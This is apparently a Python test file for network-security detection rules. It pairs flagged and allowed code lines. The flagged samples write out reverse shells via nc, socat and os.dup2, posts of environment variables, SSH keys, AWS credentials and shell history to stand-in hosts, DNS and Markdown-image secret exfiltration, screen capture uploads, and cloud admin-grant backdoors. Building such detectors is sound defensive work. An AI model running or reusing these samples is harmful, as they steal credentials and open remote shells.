# Tests for rules/network.yaml. A "# ruleid: X" line means the next line
# must produce rule X; "# ok: X" means it must not.
import asyncio
import ftplib
import http.client
import http.server
import smtplib
import socket
import ssl
import telnetlib
import urllib.parse
import urllib.request
import webbrowser
import xmlrpc.client

import boto3
import httpx
import paramiko
import requests
import websockets
from pysnmp.hlapi import CommunityData, UsmUserData

url = "https://example.com/api"

# ruleid: socket-use
sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: socket-use, event-loop-network
conn = socket.create_connection(("example.com", 443))
# ruleid: socket-use
address = socket.gethostbyname("example.com")
# ok: socket-use
hostname = socket.gethostname
# ruleid: socket-use
# ok: raw-socket, packet-socket
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
# ruleid: socket-use, raw-socket
icmp = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
ETH_P_ALL = 3
# ruleid: socket-use, raw-socket, packet-socket
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
# ruleid: socket-use, packet-socket
cooked = socket.socket(family=17, type=socket.SOCK_DGRAM)
RAW = socket.SOCK_RAW
# ruleid: socket-use, raw-socket
netlink = socket.socket(socket.AF_NETLINK, RAW, 0)

# ruleid: http-client
page = urllib.request.urlopen(url)
# ruleid: http-client, https-connection-no-context
https = http.client.HTTPSConnection("example.com")
# ruleid: http-client
https = http.client.HTTPSConnection("example.com", context=ssl.create_default_context())
# ruleid: http-client, requests-no-timeout
response = requests.get(url)
# ruleid: http-client
response = requests.post(url, json={"a": 1}, timeout=10)
# ruleid: http-client
client = httpx.Client()
# ok: http-client
parts = urllib.parse.urlparse(url)

# ruleid: clear-text-protocol-client
ftp = ftplib.FTP("ftp.example.com")
# ruleid: clear-text-protocol-client
telnet = telnetlib.Telnet("example.com")
# ruleid: clear-text-protocol-client
mail = smtplib.SMTP("mail.example.com", 25)

# ruleid: ssh-client
ssh = paramiko.SSHClient()
# ruleid: ssh-no-host-key-verification
ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())
# ok: ssh-no-host-key-verification
ssh.set_missing_host_key_policy(paramiko.RejectPolicy())

# ruleid: rpc-client
proxy = xmlrpc.client.ServerProxy("http://localhost:8000/")


async def talk(loop):
    # ruleid: websocket-client
    async with websockets.connect("wss://example.com/ws") as ws:
        await ws.send("hi")
    # ruleid: event-loop-network
    server = await loop.create_server(asyncio.Protocol, "127.0.0.1", 9000)
    # ruleid: socket-use
    reader, writer = await asyncio.open_connection("example.com", 80)


# ruleid: network-server
httpd = http.server.HTTPServer(("127.0.0.1", 8000), http.server.SimpleHTTPRequestHandler)

# ruleid: webbrowser-open
webbrowser.open(url)

# ruleid: cloud-sdk-client
s3 = boto3.client("s3")

# ruleid: http-client, tls-verification-disabled
response = requests.get(url, verify=False, timeout=5)
# ruleid: http-client, tls-verification-disabled
insecure = httpx.Client(verify=False)
# ruleid: http-client
session = requests.Session()
# ok: tls-verification-disabled
response = session.get(url, verify="/etc/ssl/certs/ca.pem", timeout=5)
# ruleid: tls-verification-disabled
response = session.get(url, verify=False, timeout=5)
context = ssl.create_default_context()
# ruleid: tls-verification-disabled
context.check_hostname = False
# ruleid: ssl-unverified-context
context.verify_mode = ssl.CERT_NONE
# ruleid: ssl-unverified-context
unverified = ssl._create_unverified_context()
# ok: ssl-unverified-context
context.verify_mode = ssl.CERT_REQUIRED

# ruleid: ssl-insecure-version
old = ssl.SSLContext(ssl.PROTOCOL_TLSv1)
# ruleid: ssl-insecure-version
context.minimum_version = ssl.TLSVersion.TLSv1_1
# ok: ssl-insecure-version
modern = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)


# ruleid: ssl-insecure-version
def connect(host, version=ssl.PROTOCOL_SSLv3):
    return host


# ruleid: ssl-wrap-socket
wrapped = ssl.wrap_socket(sock)
# ok: ssl-wrap-socket
wrapped = context.wrap_socket(sock, server_hostname="example.com")

# ruleid: snmp-insecure-version
community = CommunityData("public", mpModel=0)
# ruleid: snmp-weak-crypto
user = UsmUserData("admin", "authpass123")
# ok: snmp-weak-crypto
user = UsmUserData("admin", "authpass123", "privpass123")

# ruleid: bind-all-interfaces
sock.bind(("0.0.0.0", 8080))
# ok: bind-all-interfaces
sock.bind(("127.0.0.1", 8080))

import json
import os

# ruleid: secret-exfiltration, http-client, requests-no-timeout
requests.post("https://collect.example/e", data=dict(os.environ))
# over FTP, wrapped in a file object
import io
# ruleid: secret-exfiltration
ftp.storbinary("STOR env.txt", io.BytesIO(str(os.environ).encode()))
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example/e", timeout=5, json={"env": os.environ.copy()})
# ruleid: secret-exfiltration, http-client
httpx.post("https://collect.example/k", content=open(os.path.expanduser("~/.ssh/id_rsa")).read())
session = make_session()
# ruleid: secret-exfiltration
session.post("https://collect.example/e", data=json.dumps(dict(os.environ)))
# ruleid: event-loop-network, socket-use, upload-to-ip-address
conn = socket.create_connection(("203.0.113.9", 443))
# ruleid: secret-exfiltration
conn.sendall(json.dumps(dict(os.environ)).encode())
# ok: secret-exfiltration
# ruleid: http-client
requests.get("https://api.example/v1/items", headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]}, timeout=10)
# ok: secret-exfiltration
# ruleid: http-client
requests.post("https://api.example/v1/items", json={"region": os.environ.get("REGION", "eu")}, timeout=10)
# ok: secret-exfiltration
subprocess_env = dict(os.environ)
report = {"host": "ci-7", "env": dict(os.environ)}
body = json.dumps(report)
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example/r", data=body, timeout=5)
# ruleid: secret-exfiltration, http-client, requests-no-timeout
requests.post("https://collect.example/p", data=open("/etc/passwd").read())
history = open(os.path.expanduser("~/.bash_history")).read()
# ruleid: secret-exfiltration, http-client
httpx.put("https://collect.example/h", content=history)
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example/v", files={"f": open(".env", "rb")}, timeout=5)
# ok: secret-exfiltration
# ruleid: http-client
requests.post("https://api.example/v1/reports", files={"f": open("report.pdf", "rb")}, timeout=5)

# secret-dns-exfiltration: a secret in a name that is looked up
import dns.resolver

# ruleid: secret-dns-exfiltration, socket-use
socket.gethostbyname(os.environ["OPENAI_API_KEY"] + ".x.exfil.example")
label = os.getenv("GITHUB_TOKEN", "").replace("_", "-")
# ruleid: secret-dns-exfiltration
dns.resolver.resolve(f"{label}.t.exfil.example", "TXT")
# ok: secret-dns-exfiltration
# ruleid: socket-use
socket.gethostbyname(os.environ.get("DB_HOST", "localhost"))
# ok: secret-dns-exfiltration
# ruleid: event-loop-network, socket-use
socket.create_connection((os.environ["REDIS_HOST"], 6379))
# ok: secret-dns-exfiltration
# ruleid: socket-use
socket.getaddrinfo(*bind_address, type=socket.SOCK_STREAM)

# cloud-metadata-endpoint: instance credentials for whoever asks
# ruleid: cloud-metadata-endpoint, http-client
requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/", timeout=3)
# ruleid: cloud-metadata-endpoint
host = "metadata.google.internal"
# ok: cloud-metadata-endpoint
link_local = "169.254.169.2540"

# socket-to-stdio: the reverse shell's redirection
# ruleid: socket-use
rs = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: socket-to-stdio
os.dup2(rs.fileno(), 0)
conn2 = srv.accept()[0]
# ruleid: socket-to-stdio
os.dup2(conn2.fileno(), 2)
logf = open("run.log", "w")
# ok: socket-to-stdio
os.dup2(logf.fileno(), 1)
# follow reads what a name is a part of: tuple unpacking and loop variables
conn3, peer = srv.accept()
# ruleid: socket-to-stdio
os.dup2(conn3.fileno(), 1)
for fd in (0, 1, 2):
    # ruleid: socket-to-stdio
    os.dup2(rs.fileno(), fd)

# network-tool-command: raw network tools, and curl/wget sending data
import subprocess
# ruleid: network-tool-command
subprocess.Popen(["nc", "10.0.0.1", "4444", "-e", "/bin/sh"])
# ruleid: network-tool-command
subprocess.run(["/usr/bin/socat", "tcp:10.0.0.1:4444", "exec:sh"])
# ruleid: network-tool-command
subprocess.run(["curl", "-s", "-d", "@/etc/passwd", "https://x.example/c"])
# ruleid: network-tool-command
subprocess.run(["curl", "--upload-file", "notes.db", "https://x.example/u"], check=True)
# ruleid: network-tool-command
os.execvp("wget", ["wget", "--post-file=/tmp/dump", "https://x.example/c"])
# ok: network-tool-command
subprocess.run(["curl", "-fsSL", "-o", "data.csv", "https://data.example/d.csv"], check=True)
# ok: network-tool-command
subprocess.run(["wget", "-q", "https://data.example/d.csv"], check=True)

# environment secrets sent to bare IP addresses, in messages, in DNS tools
import smtplib
import subprocess

api_key = os.environ["OPENAI_API_KEY"]
# ruleid: secret-to-ip-address, http-client
urllib.request.urlopen("https://203.0.113.5/k?v=" + api_key)
# ok: secret-to-ip-address
# ruleid: http-client, requests-no-timeout
requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": f"Bearer {api_key}"})
aws_secret = os.getenv("AWS_SECRET_ACCESS_KEY")
# ruleid: clear-text-protocol-client
mailer = smtplib.SMTP("mail.example.org", 25)
# ruleid: secret-in-message
mailer.sendmail("a@example.org", ["b@example.org"], "Subject: x\n\n" + str(aws_secret))
npm_token = os.environ.get("NPM_TOKEN", "")
# ruleid: secret-dns-tool
subprocess.run(["nslookup", npm_token + ".n.attacker.example"])
env_copy = {k: os.environ[k] for k in os.environ}
# ruleid: secret-exfiltration, http-client
requests.get("https://203.0.113.5/", params=env_copy, timeout=3)
# ruleid: exfiltration-endpoint
hook = "https://webhook.site/0f1e2d3c"
gh_token = os.environ["GITHUB_TOKEN"]
# ruleid: secret-to-exfiltration-endpoint, http-client, requests-no-timeout, secret-to-foreign-host
requests.post(hook, json={"content": gh_token})
db_url = os.getenv("DATABASE_URL", "")
# ruleid: socket-use
raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
# ruleid: secret-over-raw-socket, cloud-secret-in-request
raw.sendall(db_url.encode())
# ruleid: cloud-secret-in-request, http-client, requests-no-timeout, secret-to-foreign-host
requests.post("https://collector.example.net/ingest", data=os.environ["AWS_SECRET_ACCESS_KEY"])
from requests_aws4auth import AWS4Auth

signer = AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "eu-west-1", "es")
# a signer handed over as auth= is not data sent
# ok: cloud-secret-in-request
# ruleid: http-client, requests-no-timeout, secret-to-foreign-host
requests.post("https://search.example.org/_search", auth=signer, json={"size": 1})
# a service's key sent to another service's host
gh = os.getenv("GITHUB_TOKEN")
# ruleid: secret-to-foreign-host, http-client
requests.post("https://gh-stats.example-dev.io/collect", data={"token": gh}, timeout=5)
# ok: secret-to-foreign-host
# ruleid: http-client
requests.get("https://api.github.com/user", headers={"Authorization": "token " + gh}, timeout=5)
# ok: secret-to-foreign-host
# ruleid: http-client
requests.post("http://localhost:4000/v1/chat", headers={"Authorization": os.environ["OPENAI_API_KEY"]}, timeout=5)
# a variable that names where a token comes from is not a credential
token_url = os.environ.get("OAUTH_TOKEN_URL", "https://auth.example.com/oauth/token")
# ok: secret-to-foreign-host
# ruleid: http-client
requests.post(token_url, data={"grant_type": "client_credentials"}, timeout=10)
# ok: secret-to-foreign-host
# ruleid: http-client
requests.get(os.environ["GITHUB_API_URL"] + "/user", timeout=10)
# the environment handed to a function of the program, which sends it on
def _ship(payload, host="collector.example"):
    # ruleid: http-client, https-connection-no-context
    conn = http.client.HTTPSConnection(host, timeout=5)
    # ruleid: secret-exfiltration
    conn.request("POST", "/e", body=json.dumps(payload))
_ship(dict(os.environ))
# put into a container that is then sent
report = {"words": 3}
report["ctx"] = dict(os.environ)
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example/r", json=report, timeout=5)
# a method of the program's own class, called on an instance of it
class _Uploader:
    def push(self, data):
        # ruleid: secret-exfiltration, http-client
        requests.post("https://collect.example/u", json=data, timeout=5)
_Uploader().push(os.environ.copy())
# a parameter that only ever gets harmless values
def _ping(data):
    # ok: secret-exfiltration
    # ruleid: http-client
    requests.post("https://status.example/p", json=data, timeout=5)
_ping({"status": "ok"})
# another class's method of the same name is not called with it
class _Other:
    def push(self, data):
        # ok: secret-exfiltration
        # ruleid: http-client
        requests.post("https://status.example/o", json=data, timeout=5)
_Other().push({"status": "ok"})
# a list read from one variable is not the environment
to = [r.strip() for r in os.environ.get("REPORT_RECIPIENTS", "").split(",")]
# ok: secret-exfiltration
smtp.sendmail("bot@example.com", to, "report")
# the descriptors in a loop, os reached through a module list
_mods = [__import__(m) for m in ("socket", "os")]
_sock_mod, _os_mod = _mods
def _attach(s):
    for fd in range(3):
        # ruleid: socket-to-stdio
        _os_mod.dup2(s.fileno(), fd)
def _connect(host, port):
    s = _sock_mod.socket(_sock_mod.AF_INET, _sock_mod.SOCK_STREAM)
    s.connect((host, port))
    return s
_attach(_connect("198.51.100.66", 9001))
# a path hidden with str.translate and a constant table
_atbash = str.maketrans("abcdefghijklmnopqrstuvwxyz", "zyxwvutsrqponmlkjihgfedcba")
# ruleid: secret-exfiltration, http-client
urllib.request.urlopen("file:///" + "vgx/kzhhdw".translate(_atbash))
# every repository secret put into a workflow step
# ruleid: ci-secrets-dump
STEP_ENV = {"S": "${{ toJSON(secrets) }}"}
# ok: ci-secrets-dump
TOKEN_ENV = {"GH_TOKEN": "${{ secrets.GITHUB_TOKEN }}"}
# data encoded into the names that are looked up
def _lookup(name):
    # ruleid: dns-encoded-data, socket-use
    return socket.gethostbyname(name)
for _chunk in ("alpha", "beta"):
    _lookup(f"{_chunk.encode().hex()}.t.example")
# ok: dns-encoded-data
# ruleid: socket-use
socket.gethostbyname("api.example.com")
# a resolver object's lookups, of names a helper encodes
import base64
import pathlib

import dns.resolver


def _dns_labels(blob):
    enc = base64.b32encode(blob).decode().rstrip("=").lower()
    return [enc[i : i + 50] for i in range(0, len(enc), 50)]


_resolver = dns.resolver.Resolver(configure=False)
for _idx, _label in enumerate(_dns_labels(b"data")):
    # ruleid: dns-encoded-data
    _resolver.resolve(f"{_label}.{_idx}.t.example", "TXT")
# ok: dns-encoded-data
_resolver.resolve("example.com", "MX")
# ok: dns-encoded-data
pathlib.Path(base64.b64decode("Lg==").decode()).resolve(strict=True)
# a credential found by trying several variable names
def _gh_token():
    for name in ("GITHUB_TOKEN", "GH_TOKEN"):
        if os.getenv(name):
            return os.getenv(name)
    return ""
# ruleid: secret-to-ip-address, http-client, requests-no-timeout
requests.get("https://198.51.100.140/api/v3/rate_limit", headers={"Authorization": f"token {_gh_token()}"})
# the environment reaches the request through two helpers: one builds the
# summary, the other returns the filtered environment it holds
def _ctx_vars():
    marks = ("KEY", "TOKEN", "SECRET")
    return {k: v for k, v in os.environ.items() if any(m in k for m in marks)}
def _summary(n):
    return {"rows": n, "context": _ctx_vars()}
def _ship(summary):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://usage.example.com/v2", json=summary, timeout=4)
_ship(_summary(3))
# stored git credentials, asked of the credential helper, mailed out in a
# message body
import subprocess
from email.message import EmailMessage
def _git(*args, stdin=None):
    return subprocess.run(["git", *args], input=stdin, capture_output=True, text=True).stdout
def _creds(host):
    return _git("credential", "fill", stdin=f"protocol=https\nhost={host}\n\n")
def _notify(details):
    msg = EmailMessage()
    msg["To"] = "bot@notify.example.org"
    msg.set_content(f"release pushed\n{details}")
    # ruleid: clear-text-protocol-client
    with smtplib.SMTP("smtp.notify.example.org", 587) as s:
        # ruleid: secret-exfiltration, cli-credential-in-message
        s.send_message(msg)
_notify(_creds("github.com"))
# a report of the task's own results mailed the same way is fine
def _notify_ok(rows):
    msg = EmailMessage()
    msg.set_content(f"{rows} rows cleaned")
    # ruleid: clear-text-protocol-client
    with smtplib.SMTP("smtp.example.org", 587) as s:
        # ok: secret-exfiltration
        s.send_message(msg)
_notify_ok(12)
# a CLI's token posted to a chat webhook
SLACK_HOOK = "https://hooks.slack.com/services/T0/B0/xyz"
def _gh_identity():
    return subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()
def _status_message(state):
    return {"text": f"build {state}", "attachments": [{"footer": f"gh:{_gh_identity()}"}]}
# ruleid: cli-credential-to-chat, cli-credential-to-foreign-host, http-client
requests.post(SLACK_HOOK, json=_status_message("passed"), timeout=5)
# the same token used against its own service is not this rule's business
# ok: cli-credential-to-chat, cli-credential-to-foreign-host
# ruleid: http-client
requests.get("https://api.github.com/user", headers={"Authorization": f"Bearer {_gh_identity()}"}, timeout=5)
# ... but sent to an "update check" is
UPDATE_URL = "https://updates.example.org/latest"
def _gcloud_state():
    return {"token": subprocess.check_output(["gcloud", "auth", "print-access-token"], text=True).strip()}
def _check_update(state):
    headers = {"User-Agent": "tool/1.0"}
    headers["X-Session"] = state["token"]
    # ruleid: cli-credential-to-foreign-host, http-client
    return requests.get(UPDATE_URL, headers=headers, timeout=5)
_check_update(_gcloud_state())
# a file server over the home directory
import functools
import http.server
def _docs_root():
    return os.path.expanduser("~")
def _handler(root):
    # ruleid: file-server-home
    return functools.partial(http.server.SimpleHTTPRequestHandler, directory=root)
_handler(_docs_root())
# ... the task's own output is fine
# ok: file-server-home
preview = functools.partial(http.server.SimpleHTTPRequestHandler, directory="dist")
# shell history read by a generator, each line sent as a metric over UDP
HISTORIES = [".bash_history", ".zsh_history"]
def _history_lines():
    home = os.path.expanduser("~")
    for name in HISTORIES:
        with open(os.path.join(home, name), errors="ignore") as fh:
            for line in fh:
                yield name, line.rstrip("\n")
def _emit_metrics():
    # ruleid: socket-use
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for src, line in _history_lines():
        # ruleid: secret-exfiltration
        sock.sendto(f"dev.cmd:1|c|#src:{src},cmd:{line}".encode(), ("metrics.example.net", 8125))
# a kubeconfig with its keys, posted to an inventory service
def _kube_raw():
    return subprocess.run(["kubectl", "config", "view", "--raw"], capture_output=True, text=True).stdout
# ruleid: secret-exfiltration, cli-credential-to-foreign-host, http-client
requests.post("https://inventory.example.net/clusters", data=_kube_raw(), timeout=10)
# the environment reached through the module's namespace
def _gather_env():
    env = vars(os)["environ"]
    info = {"python": "3"}
    info["ctx"] = {k: v for k, v in env.items() if "KEY" in k}
    return info
def _publish(payload):
    # ruleid: http-client, https-connection-no-context
    conn = http.client.HTTPSConnection("dash.example.net", 443, timeout=10)
    # ruleid: secret-exfiltration
    conn.request("POST", "/v1/ingest", body=json.dumps(payload))
_publish(_gather_env())
# a socket handed to a child process as its standard streams
import subprocess
def health_probe(host):
    # ruleid: socket-use, event-loop-network
    conn = socket.create_connection((host, 4444))
    fd = conn.fileno()
    # ruleid: socket-to-child-stdio
    subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
    # ruleid: socket-to-child-stdio
    subprocess.Popen(["python3"], stdin=subprocess.PIPE, stdout=conn.fileno())
    with open("build.log", "w") as log:
        # ok: socket-to-child-stdio
        subprocess.run(["make"], stdout=log, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL)
# the screen, captured into a buffer and posted to a drop box
from PIL import ImageGrab
import io
shot = ImageGrab.grab()
png = io.BytesIO()
shot.save(png, "PNG")
# ruleid: surveillance-exfiltration, surveillance-upload, http-client, requests-no-timeout, exfiltration-endpoint
requests.post("https://api.telegram.org/bot6123:AAH/sendPhoto", files={"photo": png.getvalue()})
# ok: surveillance-exfiltration
# ruleid: http-client, surveillance-upload
requests.post("https://api.example.com/v1/vision", files={"image": png.getvalue()}, timeout=30)
# ok: surveillance-upload
# ruleid: http-client
requests.post("https://api.openai.com/v1/responses", json={"image": png.getvalue().hex()}, timeout=30)
import smtplib
from email.message import EmailMessage
import pyperclip
note = EmailMessage()
note.set_content(pyperclip.paste())
# ruleid: surveillance-mail-or-socket, clear-text-protocol-client
smtplib.SMTP("mail.example.net").send_message(note)
# a method of the program's own class, called on an instance, read as its body
import subprocess as _sp
class _Deploy:
    def identity(self):
        return json.loads(_sp.run(["aws", "configure", "export-credentials"], capture_output=True).stdout)
_deploy = _Deploy()
# ruleid: secret-exfiltration, cli-credential-to-foreign-host, http-client
requests.post("https://hooks.example.org/deploy", json=_deploy.identity(), timeout=5)
# host-identity-beacon: host name and user name sent together
import getpass
import platform
def _beacon_info():
    return {"h": socket.gethostname(), "u": getpass.getuser(), "d": os.getcwd()}
# ruleid: host-identity-beacon, http-client
urllib.request.urlopen(urllib.request.Request("https://collector.example/c", data=json.dumps(_beacon_info()).encode()))
# ruleid: host-identity-beacon, http-client
requests.get("https://collector.example/b", params={"n": platform.node(), "who": os.environ.get("USER"), "os": platform.platform()}, timeout=5)
# a build status that names the host only
# ok: host-identity-beacon
# ruleid: http-client
requests.post("https://hooks.example.org/build", json={"status": "ok", "host": socket.gethostname()}, timeout=5)
# who deployed where: host and user, nothing about the machine or the run
# ok: host-identity-beacon
# ruleid: http-client
requests.post("https://hooks.example.org/deploy", json={"text": f"deployed by {getpass.getuser()} on {socket.gethostname()}"}, timeout=5)
# secret-env-harvest: variables looked up from a list of credential names, then sent
_WANTED = ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "NPM_TOKEN", "AWS_SECRET_ACCESS_KEY"]
_loot = {k: os.environ.get(k) for k in _WANTED if os.environ.get(k)}
# ruleid: secret-env-harvest, http-client
requests.post("https://collector.example/gha", data=json.dumps(_loot), timeout=5)
# one variable, by name, to its own service
# ok: secret-env-harvest
# ruleid: http-client
requests.get("https://api.github.com/user", headers={"Authorization": "Bearer " + os.environ["GITHUB_TOKEN"]}, timeout=5)
# the values gathered into a list, and in a loop into a dict
_vals = [os.environ.get(v) for v in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN")]
# ruleid: secret-env-harvest, http-client
requests.post("https://collector.example/k", json=_vals, timeout=5)
_bag = {}
for _n in ("DB_PASSWORD", "STRIPE_SECRET_KEY", "SENTRY_DSN"):
    _bag[_n] = os.environ.get(_n, "")
# ruleid: secret-env-harvest, http-client
requests.post("https://collector.example/k", json=_bag, timeout=5)
# settings read by a list of names that are not credentials
_cfg = {k: os.environ.get(k) for k in ("APP_ENV", "APP_REGION", "APP_VERSION")}
# ok: secret-env-harvest
# ruleid: http-client
requests.post("https://status.example.org/report", json=_cfg, timeout=5)
# cloud-admin-grant / cloud-access-key-create: an account backdoor
# ruleid: cloud-sdk-client
_iam = boto3.client("iam")
# ruleid: cloud-admin-grant
_iam.attach_user_policy(UserName="svc-backup", PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
# ok: cloud-admin-grant
_iam.attach_role_policy(RoleName="lambda-reader", PolicyArn="arn:aws:iam::aws:policy/AmazonS3ReadOnlyAccess")
# ruleid: cloud-access-key-create
_new_key = _iam.create_access_key(UserName="svc-backup")
# cloud-secret-store-dump: every secret of the store, from its own listing
# ruleid: cloud-sdk-client
_sm = boto3.client("secretsmanager")
for _page in _sm.get_paginator("list_secrets").paginate():
    for _s in _page["SecretList"]:
        # ruleid: cloud-secret-store-dump
        _val = _sm.get_secret_value(SecretId=_s["ARN"])
# the one secret the task needs, by name
# ok: cloud-secret-store-dump
_db = _sm.get_secret_value(SecretId="prod/app/db")
# cloud-firewall-open-world: every port, or SSH, open to the Internet
# ruleid: cloud-sdk-client
_ec2 = boto3.client("ec2")
# ruleid: cloud-firewall-open-world
_ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=[{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
_ssh = [{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
# ruleid: cloud-firewall-open-world
_ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=_ssh)
# HTTPS for a public web server; SSH from the office only
# ok: cloud-firewall-open-world
_ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=[{"IpProtocol": "tcp", "FromPort": 443, "ToPort": 443, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
# ok: cloud-firewall-open-world
_ec2.authorize_security_group_ingress(GroupId="sg-1", IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "203.0.113.0/24"}]}])
# secret-exfiltration through a helper: the environment handed to a def that
# reads a few keys of it sends those values, not the environment
def _status_payload(env):
    return {"branch": env.get("CI_BRANCH", "?"), "sha": env["CI_SHA"][:8], "ci": "CI" in env}
# ok: secret-exfiltration
# ruleid: http-client
requests.post("https://hooks.slack.com/services/T/B/x", json=_status_payload(dict(os.environ)), timeout=10)
def _everything(env):
    return {"env": env}
# ruleid: secret-exfiltration, http-client
requests.post("https://collector.example/e", json=_everything(dict(os.environ)), timeout=10)
# a credential read by key from the environment a helper is handed, and a
# dict() built around it: read whole
def _send_key(env):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collector.example/k", json={"k": env["AWS_SECRET_ACCESS_KEY"]}, timeout=10)
_send_key(os.environ)
def _send_cfg(cfg):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collector.example/k", json=cfg["data"], timeout=10)
_send_cfg(dict(data=dict(os.environ)))
# a dict display handed to a def that reads keys of it: its values are what is read
def _ship(job):
    # ruleid: secret-exfiltration, http-client
    requests.post(job["url"], data=job["body"], timeout=10)
_ship({"url": "https://collector.example/k", "body": open(os.path.expanduser("~/.aws/credentials")).read()})
# file-to-drop-service: an archive uploaded to an anonymous file drop
# ruleid: file-to-drop-service, exfiltration-endpoint, http-client
requests.post("https://transfer.sh/b.zip", files={"f": open("backup.zip", "rb")}, timeout=30)
# ruleid: exfiltration-endpoint
_drop = "https://0x0.st"
with open("dump.tar.gz", "rb") as _fh:
    # ruleid: file-to-drop-service, http-client
    requests.post(_drop, files={"file": _fh}, timeout=30)
# a file uploaded to the project's own storage
# ok: file-to-drop-service
# ruleid: http-client
requests.put("https://uploads.example.com/artifacts/app.whl", data=open("dist/app.whl", "rb"), timeout=30)

# the environment put into an object's attribute, which a helper then sends
class _Report:
    pass
def _ship(rep):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://hooks.example.net/in", json={"text": str(rep.extras)}, timeout=5)
_rep = _Report()
_rep.extras = {k: v for k, v in os.environ.items() if "KEY" in k}
_ship(_rep)
# a module's attribute set elsewhere is not what the module's other names hold
sys.stdin = open("input.txt")
# ok: secret-exfiltration
# ruleid: http-client
requests.post("https://api.example.net/v1/run", json={"python": sys.executable}, timeout=5)

# a parameter of helpers that a loop over them calls: what the loop passes
def _via_hook(text):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://hooks.example.net/in", data=text, timeout=5)
def _via_paste(text):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://paste.example.net/new", data=text, timeout=5)
_bundle = json.dumps(dict(os.environ))
for _channel in (_via_hook, _via_paste):
    _channel(_bundle)
# and a dispatch table
def _notify_chat(msg):
    # ok: secret-exfiltration
    # ruleid: http-client
    requests.post("https://chat.example.net/msg", data=msg, timeout=5)
_SENDERS = {"chat": _notify_chat}
_SENDERS["chat"]("build finished")
def _ship_env(payload):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collect.example.net/in", json=payload, timeout=5)
_ROUTES = {"ship": _ship_env}
_ROUTES["ship"](dict(os.environ))

# every Secret of the cluster
from kubernetes import client as k8s_client
_core = k8s_client.CoreV1Api()
# ruleid: kubernetes-secret-dump
_all = _core.list_secret_for_all_namespaces(watch=False)
# ok: kubernetes-secret-dump
_one = _core.read_namespaced_secret("app-db", "prod")

# a Markdown image whose address carries secrets, printed for a chat UI to fetch
def _blob():
    ctx = {k: os.environ[k] for k in ("OPENAI_API_KEY", "GITHUB_TOKEN") if k in os.environ}
    return base64.urlsafe_b64encode(json.dumps(ctx).encode()).decode()
_badge = f"https://badges.example.net/b.png?d={_blob()}"
# ruleid: markdown-image-exfiltration
print(f"![build status]({_badge})")
# ruleid: markdown-image-exfiltration
print(f"![x](https://img.example.net/p?k={os.environ.get('OPENAI_API_KEY')})")
# a badge built from the branch name is not a secret
# ok: markdown-image-exfiltration
print(f"![branch](https://img.shields.io/badge/branch-{os.environ['GITHUB_REF_NAME']}-blue)")
# ok: markdown-image-exfiltration
print("![logo](https://example.com/logo.png)")
# the environment kept in one attribute, another attribute sent
import types
_opts = types.SimpleNamespace()
_opts.env = dict(os.environ)
_opts.url = "https://httpbin.example/post"
# ok: secret-exfiltration
# ruleid: http-client
requests.post(_opts.url, json={"hello": "world"}, timeout=5)
# a module-level name called self is no method's self
self = types.SimpleNamespace()
self.data = dict(os.environ)
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example.net/in", json=vars(self), timeout=5)
# ruleid: markdown-image-exfiltration
print("![s](https://img.example.net/p.png?k=" + os.environ["OPENAI_API_KEY"] + ")")
# ruleid: markdown-image-exfiltration
print('<img src="https://img.example.net/p.png?k=%s">' % os.environ.get("GITHUB_TOKEN"))
# dispatch through a dict, picked by .get or by a name bound to an item
def _ship_a(payload):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collect.example.net/a", json=payload, timeout=5)
def _ship_b(payload):
    # ruleid: secret-exfiltration, http-client
    requests.post("https://collect.example.net/b", json=payload, timeout=5)
_SINKS = {"a": _ship_a, "b": _ship_b}
_SINKS.get("a")(dict(os.environ))
_fn = _SINKS["b"]
_fn(dict(os.environ))
# the environment put into an object with setattr
_sack = types.SimpleNamespace()
setattr(_sack, "payload", dict(os.environ))
# ruleid: secret-exfiltration, http-client
requests.post("https://collect.example.net/s", json=vars(_sack), timeout=5)
# ... one namespace at a time
for _ns in _core.list_namespace().items:
    # ruleid: kubernetes-secret-dump-loop
    _core.list_namespaced_secret(_ns.metadata.name)
# ok: kubernetes-secret-dump-loop
_app = _core.list_namespaced_secret("prod")
# an LLM provider's key handed to another host
import openai
import anthropic
